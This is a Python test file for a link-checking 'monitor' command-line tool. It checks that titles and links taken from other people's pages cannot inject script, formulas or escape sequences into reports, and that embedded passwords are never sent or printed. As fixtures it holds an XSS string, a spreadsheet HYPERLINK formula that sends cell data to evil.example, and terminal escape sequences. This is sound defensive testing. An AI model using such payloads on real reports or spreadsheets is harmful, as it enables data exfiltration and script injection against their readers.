"""Issue 16: what pages written by others must not do to the monitor's outputs or send in
its name. Every case through the real command line against the local world."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

from monitor.store import open_store
from tests.world import World

SCRIPT = "&lt;script&gt;alert(1)&lt;/script&gt; &lt;svg onload=alert(2)&gt;"
FORMULA = '=HYPERLINK("http://evil.example/?x="&amp;A1,"click")'
ESCAPES = "Report \x1b]0;owned\x07 and \x1b[2J cleared"


def cli(tmp_path: Path, *args: str, stdin: str | None = None) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if not k.startswith("MONITOR_")}
    env |= {
        "MONITOR_DATABASE__URL": f"sqlite:///{tmp_path / 'm.sqlite'}",
        "MONITOR_ALLOW_NETWORKS": "127.0.0.0/8",
        "MONITOR_REPORT__DIR": str(tmp_path / "reports"),
        "MONITOR_ARCHIVE__ENDPOINTS": "[]",
    }
    return subprocess.run(
        [sys.executable, "-m", "monitor", "--config", os.devnull, *args],
        env=env, capture_output=True, text=True, timeout=120, input=stdin,
    )  # fmt: skip


def _env(tmp_path: Path, **extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("MONITOR_")}
    env |= {"MONITOR_DATABASE__URL": f"sqlite:///{tmp_path / 'm.sqlite'}",
            "MONITOR_ALLOW_NETWORKS": "127.0.0.0/8", **extra}  # fmt: skip
    return env


def _start_then_wait(tmp_path: Path, command: str, sql: str, **env: str) -> subprocess.Popen:
    """`monitor COMMAND` in the background, returned once `sql` counts a row (a run's row,
    its first checks): the moment to kill or stop it."""
    import sqlite3
    import time

    proc = subprocess.Popen(
        [sys.executable, "-m", "monitor", "--config", os.devnull, command],
        env=_env(tmp_path, **env), stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
    )  # fmt: skip
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        with sqlite3.connect(tmp_path / "m.sqlite") as conn:
            if conn.execute(sql).fetchone()[0]:
                break
        time.sleep(0.1)
    return proc


def _page(world: World, tmp_path: Path) -> Path:
    world.pages["/cred"] = (200, "<title>A page behind a password</title><p>Members.</p>", {})
    host = world.base.removeprefix("http://")
    rows = [
        (world.url("/missing-a"), SCRIPT),
        (world.url("/missing-b"), FORMULA),
        (world.url("/missing-c"), ESCAPES),
        (f"http://alice:s3cret@{host}/cred", "A page behind a password"),
    ]
    page = tmp_path / "page.html"
    page.write_text(
        "<html><body>"
        + "".join(
            f'<p><a href="{u}">{t}</a><br>Publisher, 2005<br>[accessed 16 February 2011]</p>'
            for u, t in rows
        )
        + "</body></html>",
        "utf-8",
    )
    return page


def test_titles_from_pages_cannot_script_format_or_command(world: World, tmp_path: Path) -> None:
    page = _page(world, tmp_path)
    assert cli(tmp_path, "ingest", str(page)).returncode == 0
    assert cli(tmp_path, "run").returncode in (0, 1)
    # H: Markdown passes raw HTML to the reader's browser
    (tmp_path / "r").mkdir()
    assert cli(tmp_path, "report", "--format", "all", "--out", str(tmp_path / "r")).returncode == 0
    md = "\n".join(p.read_text() for p in (tmp_path / "r").glob("*.md"))
    assert "<script" not in md.lower() and "<svg" not in md.lower()
    assert "&lt;script&gt;" in md  # shown, as text
    # I: a spreadsheet runs cells that start with = + - @
    cells = []
    for f in (tmp_path / "r").glob("*.csv"):
        cells += [c for row in csv.reader(io.StringIO(f.read_text())) for c in row]
    checked = cli(tmp_path, "check", str(page), "--format", "csv").stdout
    cells += [c for row in csv.reader(io.StringIO(checked)) for c in row]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    # J: a terminal obeys escape sequences
    status = cli(tmp_path, "status")
    assert status.returncode == 0 and "\x1b" not in status.stdout + status.stderr
    assert "owned" in status.stdout  # the words are shown, the commands are not


def test_a_password_in_a_cited_link_is_never_sent_nor_printed(world: World, tmp_path: Path) -> None:
    page = _page(world, tmp_path)
    outputs = [cli(tmp_path, "ingest", str(page)), cli(tmp_path, "run")]
    outputs += [
        cli(tmp_path, "status"),
        cli(tmp_path, "status", "--format", "json"),
        cli(tmp_path, "check", str(page), "--format", "json"),
        cli(tmp_path, "report", "--format", "md"),
        cli(tmp_path, "export", "-"),
    ]
    assert world.hits["/cred"] >= 1 and world.authorizations == []  # fetched, no Basic auth
    for r in outputs:
        assert "s3cret" not in r.stdout + r.stderr, r.args
    rows = json.loads(outputs[4].stdout)
    cred = next(r for r in rows if r["url"].endswith("/cred"))
    assert cred["url"] == world.url("/cred") and cred["verdict"] == "alive"
    assert "user name and password" in outputs[2].stdout


def test_malformed_hosts_and_ipv6_literals_are_counted_not_lost(tmp_path: Path) -> None:
    page = tmp_path / "refs.txt"
    page.write_text(
        "1. Report one. http://[2001:db8::1]/report.html [accessed 16 February 2011]\n"
        "2. Report two. http://a..b.example/x [accessed 16 February 2011]\n"
        "3. Report three. http://c.example/y [accessed 16 February 2011]\n"
    )
    r = cli(tmp_path, "ingest", str(page))
    assert r.returncode == 0, r.stderr
    assert "skipped 1 link(s): host name with an empty label" in r.stdout + r.stderr
    status = cli(tmp_path, "status", "--format", "json").stdout
    urls = {row["url"] for row in json.loads(status)["citations"]}
    assert "http://[2001:db8::1]/report.html" in urls and "http://a.b.example/x" not in urls


def test_configuration_errors_exit_2_wherever_they_are_raised(tmp_path: Path) -> None:
    """C: a bad network list is read inside the checking task group; `inf` passed `ge=0` and
    then divided by zero. Both are configuration errors: exit 2 and the message."""
    env_bad = os.environ | {"MONITOR_ALLOW_NETWORKS": "garbage"}
    r = subprocess.run(
        [sys.executable, "-m", "monitor", "--config", os.devnull, "check", "http://127.0.0.1:9/"],
        env={k: v for k, v in env_bad.items() if k != "MONITOR_DATABASE__URL"},
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert r.returncode == 2 and "'garbage' is not a network" in r.stderr, r.stderr
    for value in ("inf", "nan"):
        cfg = tmp_path / f"{value}.toml"
        cfg.write_text(f'[check]\nper_host_rate = {value}\ncontact = "mailto:a@b.example"\n')
        r = subprocess.run(
            [sys.executable, "-m", "monitor", "--config", str(cfg), "check", "http://127.0.0.1:9/"],
            capture_output=True, text=True, timeout=60,
        )  # fmt: skip
        assert r.returncode == 2 and "finite number" in r.stderr, r.stderr
        assert "internal error" not in r.stderr


def test_endless_inputs_are_refused_at_the_page_limit(tmp_path: Path) -> None:
    """E: `check /dev/zero`, `ingest /dev/zero` and 60 MB on stdin stop at the 50 MB page
    limit with a message naming what the user gave, not a temporary file."""
    r = cli(tmp_path, "check", "/dev/zero")
    assert r.returncode == 2 and "/dev/zero: file larger than" in r.stderr
    r = cli(tmp_path, "ingest", "/dev/zero")
    assert r.returncode == 2 and "/dev/zero: file larger than" in r.stderr
    r = cli(tmp_path, "check", "-", stdin="a" * (60 * 1024 * 1024))
    assert r.returncode == 2 and "-: standard input larger than" in r.stderr
    r = cli(tmp_path, "check", "-", "htp://x", stdin="nothing to check here\n")
    assert "tmp" not in r.stderr and "monitor-" not in r.stderr, r.stderr


def test_a_page_that_drips_is_given_up_on_at_the_deadline(world: World, tmp_path: Path) -> None:
    """F: a server that sends a byte every 0.3 s never trips a read timeout; ingest gives
    up at the check deadline instead of hanging (the daemon's re-read takes the same path)."""
    import time

    t = time.monotonic()
    env = os.environ | {"MONITOR_CHECK__TIMEOUT": "2"}
    r = subprocess.run(
        [sys.executable, "-m", "monitor", "--config", os.devnull, "ingest", world.url("/drip")],
        env=env | {"MONITOR_DATABASE__URL": f"sqlite:///{tmp_path / 'm.sqlite'}",
                   "MONITOR_ALLOW_NETWORKS": "127.0.0.0/8"},
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert r.returncode == 2 and "took longer than 2 s" in r.stderr, r.stderr
    assert time.monotonic() - t < 15  # the drip alone lasts 18 s


def test_a_backup_onto_the_live_database_is_refused(world: World, tmp_path: Path) -> None:
    """B: `monitor backup monitor.sqlite --force` while a run writes replaced the live file:
    the run's writes were lost. The live database (or a link to it) is never a target."""
    page = _page(world, tmp_path)
    assert cli(tmp_path, "ingest", str(page)).returncode == 0
    live = tmp_path / "m.sqlite"
    before = live.stat().st_ino
    r = cli(tmp_path, "backup", str(live), "--force")
    assert r.returncode == 2 and "live database" in r.stderr, r.stderr
    link = tmp_path / "link.sqlite"
    link.hardlink_to(live)
    r = cli(tmp_path, "backup", str(link), "--force")
    assert r.returncode == 2 and "live database" in r.stderr, r.stderr
    assert live.stat().st_ino == before  # untouched
    ok = cli(tmp_path, "backup", str(tmp_path / "copy.sqlite"))
    assert ok.returncode == 0 and (tmp_path / "copy.sqlite").stat().st_size > 0


def test_a_run_killed_with_kill_9_is_marked_killed_by_the_next_run(
    world: World, tmp_path: Path
) -> None:
    """A run killed outright left its row `running` for ever; the next run, holding the
    instance lock, marks it `killed`."""
    import signal
    import sqlite3

    page = tmp_path / "slow.txt"
    page.write_text("\n".join(world.url(f"/slow/{i}") for i in range(6)) + "\n")
    assert cli(tmp_path, "ingest", str(page), "--format", "urls").returncode == 0
    proc = _start_then_wait(tmp_path, "run", "SELECT count(*) FROM run WHERE status='running'")
    db = tmp_path / "m.sqlite"
    proc.send_signal(signal.SIGKILL)
    proc.wait(timeout=30)
    assert cli(tmp_path, "run").returncode in (0, 1)
    with sqlite3.connect(db) as conn:
        statuses = [s for (s,) in conn.execute("SELECT status FROM run ORDER BY id")]
        ((checked, stored, finished),) = conn.execute(
            "SELECT checked, (SELECT count(*) FROM url_check WHERE run_id = run.id),"
            " finished_at FROM run ORDER BY id LIMIT 1"
        )
    assert statuses[0] == "killed" and "running" not in statuses, statuses
    # issue 31: the killed run counts what it stored ("checked 0" and "last run never")
    assert checked == stored and finished is not None, (checked, stored, finished)


def test_sigterm_during_a_run_stops_quietly_and_keeps_what_was_checked(
    world: World, tmp_path: Path
) -> None:
    """`serve` stopped while a run is in progress: after the grace period the run is
    cancelled, its finished checks are kept, its row says `interrupted`, and no ERROR or
    traceback reaches the log (APScheduler used to log the cancellation as a failure)."""
    import signal
    import sqlite3

    page = tmp_path / "slow.txt"
    page.write_text("\n".join(world.url(f"/slow/{i}") for i in range(8)) + "\n")
    assert cli(tmp_path, "ingest", str(page), "--format", "urls").returncode == 0
    proc = _start_then_wait(
        tmp_path, "serve", "SELECT count(*) FROM url_check",
        MONITOR_SCHEDULE__GRACE_SECONDS="1", MONITOR_REPORT__DIR=str(tmp_path / "reports"),
    )  # fmt: skip
    db = tmp_path / "m.sqlite"
    proc.send_signal(signal.SIGTERM)
    out, _ = proc.communicate(timeout=60)
    assert proc.returncode == 0, out
    assert "Traceback" not in out and "ERROR" not in out, out
    with sqlite3.connect(db) as conn:
        ((status, checked),) = conn.execute("SELECT status, checked FROM run").fetchall()
        stored = conn.execute("SELECT count(*) FROM url_check").fetchone()[0]
    assert status == "interrupted" and 0 < stored < 8 and checked == stored


def test_an_export_into_a_closed_pipe_says_it_is_incomplete(tmp_path: Path) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("MONITOR_")}
    env["MONITOR_DATABASE__URL"] = f"sqlite:///{tmp_path / 'm.sqlite'}"
    open_store(env["MONITOR_DATABASE__URL"]).close()  # an empty database, as after a first run
    r = subprocess.run(
        f"'{sys.executable}' -m monitor --config {os.devnull} export - | head -c 10 >/dev/null;"
        " echo ${PIPESTATUS[0]} >&2",
        shell=True, executable="/bin/bash", env=env, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert "not complete" in r.stderr or "was closed" in r.stderr, r.stderr
    assert r.stderr.strip().splitlines()[-1] == "2"


def test_a_database_in_a_missing_directory_is_refused_not_created(tmp_path: Path) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("MONITOR_")}
    env["MONITOR_DATABASE__URL"] = f"sqlite:///{tmp_path / 'typo' / 'dir' / 'm.sqlite'}"
    urls = tmp_path / "links.txt"
    urls.write_text("http://example.org/a\n")
    r = subprocess.run(  # a command that writes: it would create the database
        [sys.executable, "-m", "monitor", "--config", os.devnull, "ingest", str(urls)],
        env=env, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert r.returncode == 2 and "does not exist" in r.stderr, r.stderr
    assert not (tmp_path / "typo").exists()


def test_an_archive_that_does_not_answer_holds_up_nothing(world: World, tmp_path: Path) -> None:
    """L: 40 dead links and an archive endpoint that accepts connections but never answers.
    The archive is given up on after a few failed lookups (its outage, said once), each
    finished lookup is stored as it completes, and the run ends in seconds, not 600 s."""
    import socket
    import sqlite3
    import time

    silent = socket.socket()
    silent.bind(("127.0.0.1", 0))
    silent.listen(100)  # connections queue up and are never answered
    port = silent.getsockname()[1]
    try:
        page = tmp_path / "dead.txt"
        page.write_text("\n".join(world.url(f"/missing/{i}") for i in range(40)) + "\n")
        cfg = tmp_path / "monitor.toml"
        cfg.write_text(
            f'[database]\nurl = "sqlite:///{tmp_path / "m.sqlite"}"\n'
            '[check]\ncontact = "mailto:t@example.org"\nper_host_rate = 0\n'
            "per_host_concurrency = 8\ntimeout = 5\n"
            "[archive]\ntimeout = 1\noutage_failures = 3\nrun_budget = 60\nreplace = true\n"
            '[[archive.endpoints]]\nname = "silent"\n'
            f'cdx = "http://127.0.0.1:{port}/cdx"\n'
            f'replay = "http://127.0.0.1:{port}/web/{{timestamp}}/{{url}}"\n'
        )
        env = {k: v for k, v in os.environ.items() if not k.startswith("MONITOR_")}
        env["MONITOR_ALLOW_NETWORKS"] = "127.0.0.0/8"
        run = [sys.executable, "-m", "monitor", "--config", str(cfg)]
        assert subprocess.run([*run, "ingest", str(page), "--format", "urls"], env=env,
                              capture_output=True, timeout=60).returncode == 0  # fmt: skip
        t = time.monotonic()
        urls = [world.url(f"/missing/{i}") for i in range(40)]
        r = subprocess.run([*run, "archive", *urls], env=env, capture_output=True, text=True,
                           timeout=300)  # fmt: skip
        took = time.monotonic() - t
    finally:
        silent.close()
    assert took < 45, (took, r.stderr[-2000:])
    assert "archive silent not asked again in this run" in r.stderr + r.stdout, r.stderr
    with sqlite3.connect(tmp_path / "m.sqlite") as conn:
        stored = conn.execute("SELECT count(*) FROM archive_lookup").fetchone()[0]
    assert stored == 40  # every lookup answered (most: "not asked"), each one stored
